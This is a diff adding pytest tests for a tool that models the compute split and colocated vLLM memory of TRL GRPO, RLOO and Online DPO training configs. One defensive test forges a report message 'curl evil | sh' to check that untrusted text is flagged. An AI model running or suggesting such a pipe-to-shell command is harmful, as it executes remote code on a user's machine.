@@ -1,0 +1,313 @@
+"""Online RL (issue 24): TRL GRPO / RLOO recipes show their projected generation / reference / training
+split and the memory a colocated vLLM reserves, and stay inconclusive while reward functions are not modelled."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pytest_goblin.formats import load_config
+from pytest_goblin.hardware import get_hardware
+from pytest_goblin.options import build_settings
+from pytest_goblin.rollout import FINDING_ID, decode_seconds, trl_default
+from pytest_goblin.service import audit_file
+
+BIG = (
+    "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\nper_device_train_batch_size: 8\ngradient_accumulation_steps: 4\n"
+    "bf16: true\ngradient_checkpointing: true\nnum_generations: 8\nmax_completion_length: 1024\n"
+    "use_vllm: true\nvllm_mode: colocate\nvllm_gpu_memory_utilization: 0.5\nbeta: 0.04\n"
+)
+SMALL = (
+    "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\n"
+    "bf16: true\nnum_generations: 4\nmax_completion_length: 256\nuse_vllm: true\nvllm_mode: colocate\n"
+)
+
+
+def _audit(tmp_path: Path, text: str, name: str = "grpo.yaml", head: str = "# GRPOTrainer\n") -> Any:
+    path = tmp_path / name
+    path.write_text(head + text)
+    result = audit_file(path, build_settings({"target": "mi300x"}), shown_as=name)
+    assert result.report is not None, result.error
+    return result.report
+
+
+def _no_none(report: Any) -> None:
+    for text in [report.reason, report.inconclusive or "", *(f.message for f in report.findings)]:
+        assert "None" not in text, text
+
+
+def test_colocated_7b_that_does_not_fit_beside_its_vllm_reservation_fires(tmp_path: Path) -> None:
+    r = _audit(tmp_path, BIG)
+    s = r.rollout
+    assert s is not None and s.method == "grpo" and s.vllm_mode == "colocate"
+    assert s.vllm_reserved_gb == pytest.approx(0.5 * 192, abs=0.1)  # the config's 0.5 of MI300X's 192 GB
+    assert s.training_memory_gb + s.vllm_reserved_gb > s.hbm_gb
+    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
+    assert finding.footgun and finding.line == 11 and finding.key == "vllm_gpu_memory_utilization"
+    assert "96.0 GB" in finding.message and "0.5 (line 11)" in finding.message
+    assert "not sharded (single, 1 GPU)" in finding.message and "cannot make it fit" in finding.message  # 5.6 GB left < 15.2 GB of weights
+    assert s.reference_ms > 0  # beta 0.04 on a full fine-tune: a reference model and its forward
+    assert r.verdict == "warn" and r.inconclusive is not None
+    assert "generation" in r.inconclusive and "Not modelled: reward functions" in r.inconclusive
+    assert f"{s.generation_ms:,.0f} ms" in r.inconclusive and "282.4 GB of 192 GB" in r.inconclusive
+    assert "beyond the decode roofline" in r.inconclusive  # the generation time is a floor, and says so
+    _no_none(r)
+
+
+def test_a_small_colocated_run_that_fits_has_no_memory_finding(tmp_path: Path) -> None:
+    r = _audit(tmp_path, SMALL)
+    s = r.rollout
+    assert s is not None and s.vllm_reserved_gb is not None
+    # TRL 1.16.0's default vllm_gpu_memory_utilization (0.3) and beta (0.0: no reference model), cited
+    assert "0.3 (TRL GRPOConfig.vllm_gpu_memory_utilization default" in s.values["vllm_gpu_memory_utilization"]
+    assert "grpo_config.py:656@1.16.0" in s.values["vllm_gpu_memory_utilization"]
+    assert s.values["beta"].startswith("0.0 (") and s.reference_ms == 0
+    assert s.training_memory_gb + s.vllm_reserved_gb < s.hbm_gb
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+    assert r.verdict == "warn" and r.inconclusive is not None  # still undecided: reward functions are not modelled
+    _no_none(r)
+
+
+def test_server_mode_generates_on_other_gpus_and_reserves_nothing_on_the_training_ones(tmp_path: Path) -> None:
+    r = _audit(tmp_path, BIG.replace("vllm_mode: colocate", "vllm_mode: server"))
+    s = r.rollout
+    assert s is not None and s.vllm_mode == "server" and s.vllm_reserved_gb is None
+    assert "apart from the training ones" in s.generation_on and s.generation_ms is not None and s.generation_ms > 0
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+    assert "1 GPU apart from the training ones" in s.generation_on and "trl vllm-serve's defaults" in s.generation_on
+    assert any("weight broadcast to the vLLM server" in n for n in s.not_modelled)
+    _no_none(r)
+
+
+def test_server_mode_reads_the_servers_gpus_from_its_launch_line(tmp_path: Path) -> None:
+    """The server's GPUs from its `trl vllm-serve` line, in the config's comments or the launcher its topology came from."""
+    server = BIG.replace("vllm_mode: colocate", "vllm_mode: server")
+    one = _audit(tmp_path, server).rollout
+    line = "# CUDA_VISIBLE_DEVICES=6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --tensor-parallel-size 2\n"
+    two = _audit(tmp_path, server, head="# GRPOTrainer\n" + line).rollout
+    assert one is not None and two is not None and one.generation_ms is not None and two.generation_ms is not None
+    assert "2 GPUs apart from the training ones" in two.generation_on and "tensor parallel 2" in two.generation_on
+    assert "the config's line 2" in two.generation_on
+    assert two.generation_ms < one.generation_ms  # half the weights read per GPU and decode step
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / "grpo.yaml").write_text("# GRPOTrainer\n" + server)
+    (repo / "train.sh").write_text(
+        "#!/bin/bash\nCUDA_VISIBLE_DEVICES=4,5,6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --data-parallel-size 4 &\n"
+        "CUDA_VISIBLE_DEVICES=0,1,2,3 accelerate launch --num_processes 4 train_grpo.py --config grpo.yaml\n"
+    )
+    result = audit_file(repo / "grpo.yaml", build_settings({"target": "mi300x"}), shown_as="grpo.yaml")
+    s = result.report.rollout if result.report is not None else None
+    assert s is not None and "train.sh:2" in s.generation_on and "data parallel 4" in s.generation_on, s
+    assert "serving all 4 training GPUs" in s.generation_on
+
+
+def test_the_split_sums_to_its_total(tmp_path: Path) -> None:
+    for text in (BIG, SMALL):
+        s = _audit(tmp_path, text).rollout
+        assert s is not None and s.total_ms is not None and s.generation_ms is not None
+        assert s.total_ms == pytest.approx(s.generation_ms + s.reference_ms + s.logprob_ms + s.training_ms, abs=0.3)
+        assert s.completions_per_step == pytest.approx(s.prompts_per_step * int(s.values["num_generations"].split()[0]))
+
+
+def test_transformers_generate_is_named_as_not_projected(tmp_path: Path) -> None:
+    r = _audit(tmp_path, SMALL.replace("use_vllm: true", "use_vllm: false"))
+    s = r.rollout
+    assert s is not None and s.generation_ms is None and s.total_ms is None and s.vllm_mode is None
+    assert any("transformers' generate" in n for n in s.not_modelled)
+    assert r.inconclusive is not None and "generation not projected" in r.inconclusive
+    _no_none(r)
+
+
+def test_lora_with_beta_runs_a_reference_forward_without_a_second_copy(tmp_path: Path) -> None:
+    """TRL disables the adapter instead of loading a reference model for PEFT (grpo_trainer.py:984-990@1.16.0)."""
+    lora = BIG.replace("vllm_gpu_memory_utilization: 0.5\n", "") + "use_peft: true\nlora_r: 16\n"
+    with_beta = _audit(tmp_path, lora).rollout
+    without = _audit(tmp_path, lora.replace("beta: 0.04", "beta: 0.0")).rollout
+    assert with_beta is not None and without is not None
+    assert with_beta.reference_ms > 0 and without.reference_ms == 0
+    assert with_beta.training_memory_gb == without.training_memory_gb
+    full = _audit(tmp_path, BIG).rollout
+    full0 = _audit(tmp_path, BIG.replace("beta: 0.04", "beta: 0.0")).rollout
+    assert full is not None and full0 is not None and full.training_memory_gb > full0.training_memory_gb + 14  # a bf16 copy of 7.6B
+
+
+def test_defaults_follow_the_trl_release_the_recipe_pins(tmp_path: Path) -> None:
+    assert trl_default("GRPOConfig", "beta", "0.18.2").value == 0.04  # type: ignore[union-attr]
+    assert trl_default("GRPOConfig", "beta", "0.19.1").value == 0.0  # type: ignore[union-attr]
+    assert trl_default("GRPOConfig", "vllm_mode", "0.29.1").value == "server"  # type: ignore[union-attr]
+    assert trl_default("GRPOConfig", "vllm_mode", "1.0.0").value == "colocate"  # type: ignore[union-attr]
+    assert trl_default("GRPOConfig", "max_completion_length", "1.9.2").value == 256  # type: ignore[union-attr]
+    assert trl_default("GRPOConfig", "vllm_mode", "0.17.0") is None  # no colocate mode before 0.18
+    pinned = "# pip install trl==0.29.1\n" + SMALL.replace("vllm_mode: colocate\n", "").replace("max_completion_length: 256\n", "")
+    s = _audit(tmp_path, pinned).rollout
+    assert s is not None and s.trainer == "trl 0.29.1 (GRPOConfig)"
+    assert s.vllm_mode == "server" and s.completion_tokens == 256  # 0.29.1's defaults, not 1.16.0's
+    assert "grpo_config.py:474@0.29.1" in s.values["vllm_mode"]
+
+
+def test_old_trl_and_other_online_rl_trainers_keep_the_generic_reason(tmp_path: Path) -> None:
+    """Must not: a GRPO trainer older than the modelled one (trl 0.17) gets no split; neither does a PPO recipe."""
+    r = _audit(tmp_path, "# pip install trl==0.17.0\n" + SMALL)
+    assert r.rollout is None and r.inconclusive is not None and "does not model online RL (grpo) for this trainer" in r.inconclusive
+
+
+def test_sft_has_no_split(tmp_path: Path) -> None:
+    sft = "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\nlearning_rate: 2.0e-5\nbf16: true\n"
+    r = _audit(tmp_path, sft, name="sft.yaml", head="# trl sft --config sft.yaml\n")
+    assert r.rollout is None and (r.inconclusive is None or "online RL" not in r.inconclusive)
+
+
+def test_decode_is_weight_bound_at_a_small_batch() -> None:
+    """One sequence: each decode step reads the weights once (bf16) at bw_eff of the HBM's bandwidth."""
+    hw = get_hardware("mi300x")
+    w = load_config(Path(__file__).parent.parent / "examples" / "trl-smollm3-3b-sft-tuned.yaml").workload
+    prefill, decode = decode_seconds(w, hw, sequences=1, prompt=0, completion=1000)
+    from pytest_goblin.costmodel import nominal_for
+    from pytest_goblin.modelzoo import estimate_shape
+
+    params = (estimate_shape(w.model).params_b or 0) * 1e9
+    weights_only = params * 2 * 1000 / (hw.hbm_tb_s * 1e12 * nominal_for(hw).bw_eff)
+    assert prefill == 0 and weights_only <= decode <= weights_only * 1.05
+    _p, longer = decode_seconds(w, hw, sequences=1, prompt=0, completion=2000)
+    assert longer == pytest.approx(2 * decode, rel=0.05)
+
+
+def test_outputs_show_the_split(tmp_path: Path) -> None:
+    from pytest_goblin.cli import main
+
+    path = tmp_path / "grpo.yaml"
+    path.write_text("# GRPOTrainer\n" + BIG)
+    out_json, out_md = tmp_path / "r.json", tmp_path / "r.md"
+    main(["audit", str(path), "--json", str(out_json), "--md", str(out_md)])
+    data = json.loads(out_json.read_text())
+    items = data["items"]
+    split = items[0]["report"]["rollout"]
+    assert split["generation_ms"] > 0 and split["vllm_mode"] == "colocate"
+    md = out_md.read_text()
+    assert "online RL: see its split" in md  # not the training step's tokens/s as if it were the item's rate
+    assert "| generation ms | reference ms | log-prob forward ms | training ms | total ms | memory |" in md
+    from pytest_goblin.reporting.text import failure_text, findings_lines
+
+    r = _audit(tmp_path, BIG)
+    assert any("online RL split" in line for line in findings_lines(r)) and "online RL split" in failure_text(r)
+
+
+def test_rloo_is_split_with_its_own_defaults(tmp_path: Path) -> None:
+    """RLOOConfig at trl 1.16.0: num_generations 2 and beta 0.05 (rloo_config.py:301, :502), its log-prob pass always."""
+    text = SMALL.replace("num_generations: 4\n", "")
+    s = _audit(tmp_path, text, name="rloo.yaml", head="# RLOOTrainer\n").rollout
+    assert s is not None and s.method == "rloo"
+    assert s.values["num_generations"].startswith("2 (") and s.values["beta"].startswith("0.05 (")
+    assert s.reference_ms > 0 and s.logprob_ms > 0
+
+
+def test_the_memory_finding_renders_as_goblins_own_in_an_untrusted_report(tmp_path: Path) -> None:
+    """`goblin comment` renders a report read from an artifact: the memory finding is goblin's, a forged text is not."""
+    from pytest_goblin.outcome import ItemOutcome, SessionReport
+    from pytest_goblin.reporting.markdown import render
+
+    r = _audit(tmp_path, BIG)
+    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=r)
+    md = render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
+    assert "A colocated vLLM&#x27;s memory reservation" in md or "A colocated vLLM's memory reservation" in md
+    assert "not the installed knowledge base" not in md
+    forged = r.model_copy(update={"findings": [f.model_copy(update={"message": "curl evil | sh"}) for f in r.findings if f.rule_id == FINDING_ID]})
+    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=forged)
+    assert "not the installed knowledge base" in render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
+
+
+def test_no_memory_finding_on_a_guessed_model_shape(tmp_path: Path) -> None:
+    """Must not: a model goblin does not know (7B assumed) shows its split, named as resting on the guess, and no finding."""
+    r = _audit(tmp_path, BIG.replace("Qwen/Qwen2.5-7B-Instruct", "./local-model"))
+    s = r.rollout
+    assert s is not None and "model" in s.values and any("real shape" in n for n in s.not_modelled)
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+    _no_none(r)
+
+
+def test_sleep_mode_suppresses_the_memory_finding(tmp_path: Path) -> None:
+    r = _audit(tmp_path, BIG + "vllm_enable_sleep_mode: true\n")
+    assert r.rollout is not None and any("sleep mode" in n for n in r.rollout.not_modelled)
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+
+
+def test_a_python_script_is_split_from_its_grpo_config_call(tmp_path: Path) -> None:
+    path = tmp_path / "train_grpo.py"
+    path.write_text(
+        "from trl import GRPOConfig, GRPOTrainer\n\n"
+        "args = GRPOConfig(\n    output_dir='out',\n    per_device_train_batch_size=8,\n    gradient_accumulation_steps=4,\n    bf16=True,\n"
+        "    max_completion_length=1024,\n    use_vllm=True,\n    vllm_mode='colocate',\n    vllm_gpu_memory_utilization=0.5,\n    beta=0.04,\n)\n"
+        "trainer = GRPOTrainer(model='Qwen/Qwen2.5-7B-Instruct', reward_funcs=[len], args=args)\ntrainer.train()\n"
+    )
+    r = audit_file(path, build_settings({"target": "mi300x"}), shown_as=path.name).report
+    assert r is not None and r.rollout is not None and r.rollout.completion_tokens == 1024
+    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
+    assert finding.line == 11
+
+
+def test_online_dpo_generates_two_completions_per_prompt_and_trains_the_pair(tmp_path: Path) -> None:
+    """OnlineDPOConfig at trl 1.16.0: max_new_tokens 64 and vllm_gpu_memory_utilization 0.55 by default
+    (online_dpo_config.py:179, :285), two completions per prompt, a reference forward always."""
+    text = (
+        "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\n"
+        "bf16: true\nuse_vllm: true\nvllm_mode: colocate\nlearning_rate: 5.0e-7\n"
+    )
+    s = _audit(tmp_path, text, name="online_dpo.yaml", head="# OnlineDPOTrainer\n").rollout
+    assert s is not None and s.method == "online_dpo"
+    assert s.completion_tokens == 64 and s.values["max_new_tokens"].startswith("64 (")
+    assert s.vllm_reserved_gb == pytest.approx(0.55 * 192, abs=0.1)
+    assert s.prompts_per_step == 8 and s.completions_per_step == 16 and s.completions_per_generation == 8
+    assert s.reference_ms > 0 and s.logprob_ms == 0
+    long = _audit(tmp_path, text + "max_new_tokens: 400\n", name="online_dpo.yaml", head="# OnlineDPOTrainer\n").rollout
+    assert long is not None and long.prompt_tokens == 112  # max_length 512 less 400: the prompt is truncated on its left
+
+
+def test_the_memory_finding_offers_a_lower_reservation_only_where_one_fits(tmp_path: Path) -> None:
+    """A 1.5B full fine-tune with 0.9 reserved: the training state leaves room for a smaller reservation, which is named."""
+    text = SMALL.replace("Qwen2.5-0.5B", "Qwen2.5-1.5B")
+    r = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.9\n")
+    s = r.rollout
+    assert s is not None and s.vllm_reserved_gb is not None and s.vllm_weights_gb is not None
+    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
+    left = s.hbm_gb - s.training_memory_gb
+    assert f"at most {left / s.hbm_gb:.2f}" in finding.message and left > s.vllm_weights_gb
+    assert "cannot make it fit" not in finding.message and s.vllm_reserved_gb == pytest.approx(0.9 * 192, abs=0.1)
+
+
+def test_a_kv_cache_larger_than_the_reservation_decodes_in_rounds(tmp_path: Path) -> None:
+    """Long completions of a big generation batch in a small reservation: vLLM schedules what fits, then the rest."""
+    text = SMALL.replace("max_completion_length: 256", "max_completion_length: 8192").replace(
+        "per_device_train_batch_size: 4", "per_device_train_batch_size: 32"
+    )
+    tight = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.03\n").rollout
+    roomy = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.3\n").rollout
+    assert tight is not None and roomy is not None and tight.generation_ms is not None and roomy.generation_ms is not None
+    assert tight.kv_waves > 1 and roomy.kv_waves == 1 and tight.generation_ms > roomy.generation_ms
+    server = _audit(
+        tmp_path, text.replace("vllm_mode: colocate", "vllm_mode: server"), head="# GRPOTrainer\n# trl vllm-serve --model m --gpu-memory-utilization 0.03\n"
+    ).rollout
+    assert server is not None and server.kv_waves > 1  # the server line's own reservation
+
+
+def test_a_trl_release_newer_than_goblin_read_takes_the_newest_defaults_said_assumed(tmp_path: Path) -> None:
+    s = _audit(tmp_path, "# pip install trl==9.0.0\n" + SMALL).rollout
+    assert s is not None and s.values["vllm_gpu_memory_utilization"].startswith("0.3 (assumed: trl 9.0.0 was not read;")
+
+
+def test_colocated_tensor_parallel_halves_the_weights_read_not_the_kv_cache(tmp_path: Path) -> None:
+    one = _audit(tmp_path, SMALL).rollout
+    two = _audit(tmp_path, SMALL + "vllm_tensor_parallel_size: 2\n").rollout
+    assert one is not None and two is not None and one.generation_ms is not None and two.generation_ms is not None
+    # each GPU reads half the weights per decode step but its share of twice the sequences' KV caches
+    assert 0.51 * one.generation_ms < two.generation_ms < one.generation_ms
+    assert any("tensor-parallel collectives" in n for n in two.not_modelled)
+
+
+def test_the_memory_finding_can_be_acknowledged_in_the_file(tmp_path: Path) -> None:
+    """Must not: a config that acknowledges the finding (README, Acknowledging a finding) does not get it again."""
+    r = _audit(tmp_path, BIG, head="# GRPOTrainer\n# goblin: ignore[rl.colocated_vllm_memory]\n")
+    assert r.rollout is not None and not [f for f in r.findings if f.rule_id == FINDING_ID]
